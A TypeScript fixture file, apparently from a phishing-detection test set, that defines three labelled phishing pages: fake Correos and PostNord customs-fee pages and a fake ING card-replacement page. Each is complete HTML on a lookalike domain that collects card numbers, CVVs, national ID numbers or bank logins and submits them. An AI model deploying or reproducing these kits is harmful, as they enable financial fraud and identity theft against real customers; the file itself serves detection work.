import { htmlRoute, type Entry } from '../entry.js';
import { doc, pngRoute } from '../parts/v-kit.js';

// European-language kits (blind split): Spanish, Dutch, Swedish.

// Correos customs fee (es).
const h1 = 'correos-es.aduana-envio.com';
const correos: Entry = {
  id: 'v-phish-correos-aduanas-es',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: `https://${h1}/es/seguimiento/?envio=PQ4B8L0512847290108001J`,
  routes: {
    [`${h1}/es/seguimiento/`]: htmlRoute(
      doc({
        lang: 'es',
        title: 'Correos - Pago de aranceles',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5}.h{background:#ffcd00;padding:14px 24px;font-weight:700;color:#002e6d;font-size:22px}.w{max-width:540px;margin:24px auto;background:#fff;padding:24px}
input{width:100%;padding:10px;border:1px solid #aaa;margin:4px 0 12px}button{background:#002e6d;color:#fff;border:0;padding:12px 26px;font-weight:700}table{width:100%;font-size:14px}td{padding:6px 0;border-bottom:1px solid #eee}`,
        body: `<div class="h"><img src="/es/img/c.png" width="24" height="24" alt="Correos"> Correos</div><div class="w"><h2>Su envío está retenido en aduanas</h2>
<p>Envío <b id="e"></b>. Para liberar su paquete debe abonar los gastos de gestión aduanera. Si no se realiza el pago en 48 horas, el envío será devuelto al remitente.</p>
<table><tr><td>Gastos de aduana</td><td>1,79 €</td></tr><tr><td>IVA</td><td>0,38 €</td></tr><tr><td><b>Total</b></td><td><b>2,17 €</b></td></tr></table>
<form id="f" style="margin-top:16px"><input name="nombre" placeholder="Nombre y apellidos" required><input name="dni" placeholder="DNI / NIE" required><input name="tarjeta" placeholder="Número de tarjeta" required><input name="cad" placeholder="Caducidad MM/AA" required><input name="cvv" placeholder="CVV" required><button>Pagar 2,17 €</button></form>
<p style="font-size:11px;color:#777">© Sociedad Estatal Correos y Telégrafos, S.A., S.M.E. 2026 · Aviso legal · Política de privacidad</p></div>
<script>document.getElementById('e').textContent=new URLSearchParams(location.search).get('envio');
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/es/api/pago',{method:'POST',body:new URLSearchParams(new FormData(e.target))}).finally(function(){document.querySelector('.w').innerHTML='<h3>Verificando con su banco…</h3><p>Introduzca el código SMS de confirmación.</p><input><button>Confirmar</button>'})};</script>`,
      }),
    ),
    [`${h1}/es/img/c.png`]: pngRoute(255, 205, 0),
  },
};

// ING "betaalpas vervangen" kit (nl): card replacement with identity and login.
const h2 = 'ing-pasvervanging.nl-service.net';
const ing: Entry = {
  id: 'v-phish-ing-betaalpas-nl',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h2}/particulier/betaalpas-vervangen`,
  body: doc({
    lang: 'nl',
    title: 'Betaalpas vervangen - ING',
    css: `body{margin:0;font-family:"ING Me",Arial,sans-serif;background:#f0f0f0;color:#333}.h{background:#fff;padding:14px 24px;border-bottom:1px solid #ddd;font-weight:700;color:#ff6200;font-size:24px}
.w{max-width:520px;margin:24px auto;background:#fff;padding:26px;border-radius:4px}input,select{width:100%;padding:10px;border:1px solid #999;border-radius:4px;margin:4px 0 12px}button{background:#ff6200;color:#fff;border:0;border-radius:4px;padding:12px 26px;font-weight:700}`,
    body: `<div class="h">ING &#129409;</div><div class="w"><h2>Uw betaalpas verloopt binnenkort</h2><p>Vanwege het vervangen van de huidige betaalpassen met een nieuwe chip dient u uw gegevens te bevestigen. U ontvangt uw nieuwe pas binnen 5 werkdagen. Rond dit vóór <b>vrijdag</b> af, anders wordt uw pas geblokkeerd.</p>
<form method="post" action="/particulier/verwerk.php"><label>Gebruikersnaam</label><input name="gebruikersnaam" required><label>Wachtwoord</label><input name="wachtwoord" type="password" required>
<label>Rekeningnummer (IBAN)</label><input name="iban" placeholder="NL00 INGB 0000 0000 00" required><label>Pasnummer</label><input name="pasnr" required><label>Vervaldatum pas</label><input name="verval" placeholder="MM/JJ" required><label>Geboortedatum</label><input name="geb" required><label>Mobiel nummer</label><input name="mob" required><button>Bevestigen</button></form>
<p style="font-size:11px;color:#777">ING Bank N.V. · Privacy · Cookies · Veilig bankieren · © 2026</p></div>`,
  }),
};

// PostNord "tullavgift" kit (sv).
const h3 = 'postnord-tull.se-betalning.com';
const postnord: Entry = {
  id: 'v-phish-postnord-tullavgift-se',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: `https://${h3}/se/paket/betala?kolli=UA128840193SE`,
  routes: {
    [`${h3}/se/paket/betala`]: htmlRoute(
      doc({
        lang: 'sv',
        title: 'PostNord - Betala tullavgift',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f7fa;color:#005d92}.h{background:#fff;padding:14px 24px;border-bottom:3px solid #00a0d6;font-weight:700;font-size:22px}
.w{max-width:520px;margin:24px auto;background:#fff;padding:26px;color:#222}input{width:100%;padding:10px;border:1px solid #9ab;margin:4px 0 12px}button{background:#00a0d6;color:#fff;border:0;padding:12px 28px;font-weight:700}`,
        body: `<div class="h">PostNord</div><div class="w"><h2>Ditt paket väntar på betalning</h2><p>Försändelse <b id="k"></b> har ankommit till Sverige men kan inte levereras förrän tullavgiften på <b>29 SEK</b> är betald. Obetalda försändelser returneras efter 3 dagar.</p>
<form id="f"><label>Namn</label><input name="namn" required><label>Personnummer</label><input name="pnr" placeholder="ÅÅÅÅMMDD-XXXX" required><label>Kortnummer</label><input name="kort" required><label>Giltig till</label><input name="giltig" placeholder="MM/ÅÅ" required><label>CVC</label><input name="cvc" required><button>Betala 29 SEK</button></form>
<p style="font-size:11px;color:#777">PostNord Sverige AB · Kundservice · Integritetspolicy · © 2026 PostNord</p></div>
<script>document.getElementById('k').textContent=new URLSearchParams(location.search).get('kolli');document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/se/paket/api',{method:'POST',body:new FormData(e.target)});document.querySelector('.w').innerHTML='<p>Vänta medan vi kontrollerar betalningen… Öppna din bank-app för att godkänna.</p>'};</script>`,
      }),
    ),
  },
};

export const entries: Entry[] = [correos, ing, postnord];
